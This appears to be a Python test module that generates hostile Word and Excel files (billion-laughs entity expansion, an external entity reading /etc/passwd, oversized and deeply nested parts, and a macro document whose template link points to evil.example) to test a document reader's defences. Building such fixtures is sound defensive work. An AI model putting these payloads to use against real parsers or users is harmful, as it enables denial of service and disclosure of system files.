"""Word documents and workbooks made to burst, hang or reach for files of the machine."""

from __future__ import annotations

import io
import zipfile

from tests.papers import writers
from tests.papers.hostile.archives import zipped
from tests.papers.producers import workbook
from tests.papers.writers import Paper

_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def _word(document: str, *more: tuple[str, bytes | str]) -> bytes:
    return zipped(("[Content_Types].xml", _TYPES), ("word/document.xml", document), *more)


def _body(inner: str, before: str = "") -> str:
    return f'<?xml version="1.0"?>{before}<w:document xmlns:w="{_WORD}"><w:body>{inner}</w:body></w:document>'


def billion_laughs(_: Paper) -> bytes:
    """Entities that call each other."""
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    doctype = f'<!DOCTYPE x [<!ENTITY a0 "哈">{entities}]>'
    return _word(_body("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", doctype))


def external_entity(_: Paper) -> bytes:
    """An entity that asks for a file of this machine."""
    doctype = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return _word(_body("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>", doctype))


def fat_part(_: Paper) -> bytes:
    """A Word document that is small packed and huge unpacked."""
    return _word(_body("<w:p><w:r><w:t>零</w:t></w:r></w:p>" * 1_900_000))


def endless_sheet(_: Paper) -> bytes:
    """A workbook whose only figure stands in its last corner."""
    return _workbook('<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')


def merged_sheet(_: Paper) -> bytes:
    """A workbook whose squares are all one."""
    data = '<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>'
    return _workbook(f'{data}<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')


def formatted_sheet(paper: Paper) -> bytes:
    """The form filled as a sheet, with a million empty rows under it."""
    empty = "".join(f'<row r="{n}" spans="1:10" ht="14.25"/>' for n in range(1000, 1_000_000))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook(paper))) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            if info.filename.startswith("xl/worksheets/"):
                data = data.replace(b"</sheetData>", empty.encode() + b"</sheetData>")
            new.writestr(info.filename, data)
    return out.getvalue()


def _way(kind: str, to: str) -> str:
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{package}"><Relationship Id="r1" Type="{kind}" Target="{to}"/></Relationships>'


def _workbook(inner: str) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    book = f'<sheets><sheet name="a" sheetId="1" r:id="r1" xmlns:r="{office}"/></sheets>'
    return zipped(
        ("[Content_Types].xml", _TYPES),
        ("_rels/.rels", _way(f"{office}/officeDocument", "xl/workbook.xml")),
        ("xl/workbook.xml", f'<workbook xmlns="{main}">{book}</workbook>'),
        ("xl/_rels/workbook.xml.rels", _way(f"{office}/worksheet", "worksheets/a.xml")),
        ("xl/worksheets/a.xml", f'<worksheet xmlns="{main}">{inner}</worksheet>'),
    )


def deep_table(_: Paper) -> bytes:
    """Tables in tables in a Word document."""
    return _word(_body("<w:tbl><w:tr><w:tc>" * 1_500 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 1_500))


def deep_xml(_: Paper) -> bytes:
    """Elements in elements in a Word document."""
    return _word(_body("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000))


def locked_office(_: Paper) -> bytes:
    """A Word document that its password turned into a compound file."""
    return _OLE + bytes(504) + "EncryptionInfo\0EncryptedPackage".encode("utf-16-le") + bytes(4096)


def macro_document(paper: Paper) -> bytes:
    """A Word document that carries macros and a link to a template elsewhere."""
    data = writers.docx(paper)
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/vbaProject.bin", _OLE + bytes(2000))
        archive.writestr(
            "word/_rels/settings.xml.rels",
            '<Relationships><Relationship Target="http://evil.example/t.dotm"/></Relationships>',
        )
    return out.getvalue()
